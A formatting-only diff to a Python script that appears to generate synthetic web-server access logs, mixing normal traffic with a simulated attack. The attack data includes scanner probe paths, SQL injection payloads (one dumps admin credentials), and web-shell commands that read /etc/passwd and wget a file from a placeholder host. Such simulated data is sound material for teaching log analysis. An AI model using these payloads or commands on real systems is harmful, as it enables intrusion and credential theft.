@@ -13,11 +13,14 @@ SCANNER = "203.0.113.120"
 INJECTOR = "203.0.113.121"
 INTRUDER = "203.0.113.99"
 CRAWLER = "198.51.100.201"
-PHONE = "Mozilla/5.0 (Linux; Android 14; PGT-AN00) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
+PHONE = (
+    "Mozilla/5.0 (Linux; Android 14; PGT-AN00) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
+)
 SCANNED = (
     "/.git/config", "/.env", "/phpmyadmin/index.php", "/admin.php.bak", "/wp-login.php", "/manager/html", "/www.zip",
     "/web.rar", "/backup.sql", "/.svn/entries", "/actuator/env", "/solr/admin/info/system", "/phpinfo.php",
-    "/cgi-bin/test.cgi", "/config.php.old", "/server-status", "/druid/index.html", "/nacos/", "/console/login", "/.DS_Store",
+    "/cgi-bin/test.cgi", "/config.php.old", "/server-status", "/druid/index.html", "/nacos/", "/console/login",
+    "/.DS_Store",
 )  # fmt: skip
 INJECTED = (
     "1'", "1' AND '1'='1", "1' AND '1'='2", "1 UNION SELECT NULL-- -", "1 UNION SELECT NULL,NULL-- -",
@@ -26,7 +29,14 @@ INJECTED = (
     "-1 UNION SELECT 1,group_concat(username,0x3a,password),3 FROM admin-- -", "1' AND SLEEP(5)-- -",
     "1 AND extractvalue(1,concat(0x7e,version()))",
 )  # fmt: skip
-COMMANDS = ("whoami", "id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "wget http://198.51.100.88/x -O /tmp/x")
+COMMANDS = (
+    "whoami",
+    "id",
+    "uname -a",
+    "cat /etc/passwd",
+    "ls -la /var/www",
+    "wget http://198.51.100.88/x -O /tmp/x",
+)
 
 
 class _Log:
@@ -37,7 +47,13 @@ class _Log:
         self.lines: list[tuple[datetime, str]] = []
 
     def add(
-        self, seconds: float, client: str, request: str, answer: tuple[int, int], agent: str, referrer: str = "-"
+        self,
+        seconds: float,
+        client: str,
+        request: str,
+        answer: tuple[int, int],
+        agent: str,
+        referrer: str = "-",
     ) -> None:
         """Add one line; ``answer`` is status and size."""
         moment = self.start + timedelta(seconds=seconds)
@@ -53,7 +69,14 @@ def _visit(log: _Log, hours: float) -> None:
         client = f"198.51.100.{rng.randrange(10, 190)}"
         agent = rng.choice((EDGE, EDGE, PHONE))
         at, page = rng.uniform(0, hours * 3_600), f"/news/{rng.randrange(900, 1_400)}.html"
-        log.add(at, client, f"GET {page}", (200, rng.randrange(6_000, 30_000)), agent, "https://www.baisou.example/")
+        log.add(
+            at,
+            client,
+            f"GET {page}",
+            (200, rng.randrange(6_000, 30_000)),
+            agent,
+            "https://www.baisou.example/",
+        )
         for asset in ("/static/style.css", f"/uploads/2026/p{rng.randrange(300)}.jpg", "/static/logo.png"):
             status = rng.choice((200, 200, 304))
             size = 0 if status == 304 else rng.randrange(900, 90_000)
@@ -67,7 +90,9 @@ def _visit(log: _Log, hours: float) -> None:
         crawler = "Mozilla/5.0 (compatible; BaisouSpider/2.0; +http://www.baisou.example/search/spider.html)"
         log.add(number * 400 + 7, CRAWLER, f"GET /news/{900 + number}.html", (200, 9_000), crawler)
     for number in range(3):
-        log.add(9 * 3_600 + number * 20, "192.168.20.21", "POST /admin/login", (200, 2_100), EDGE, "/admin/login")
+        log.add(
+            9 * 3_600 + number * 20, "192.168.20.21", "POST /admin/login", (200, 2_100), EDGE, "/admin/login"
+        )
     log.add(9 * 3_600 + 70, "192.168.20.21", "POST /admin/login", (302, 0), EDGE, "/admin/login")
 
 
@@ -81,7 +106,13 @@ def _attack(log: _Log) -> None:
     for number, text in enumerate(INJECTED):
         request = f"GET /show.php?id={quote(text)}"
         status = 500 if "'" in text and number < 3 else 200
-        log.add(10 * 3_600 + number * 14, INJECTOR, request, (status, 5_200), "sqlmap/1.8.9#stable (https://sqlmap.org)")
+        log.add(
+            10 * 3_600 + number * 14,
+            INJECTOR,
+            request,
+            (status, 5_200),
+            "sqlmap/1.8.9#stable (https://sqlmap.org)",
+        )
     old = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0"
     log.add(12 * 3_600, INTRUDER, "GET /admin/upload.html", (200, 2_900), old)
     log.add(12 * 3_600 + 20, INTRUDER, "POST /admin/upload.php", (200, 61), old, "/admin/upload.html")
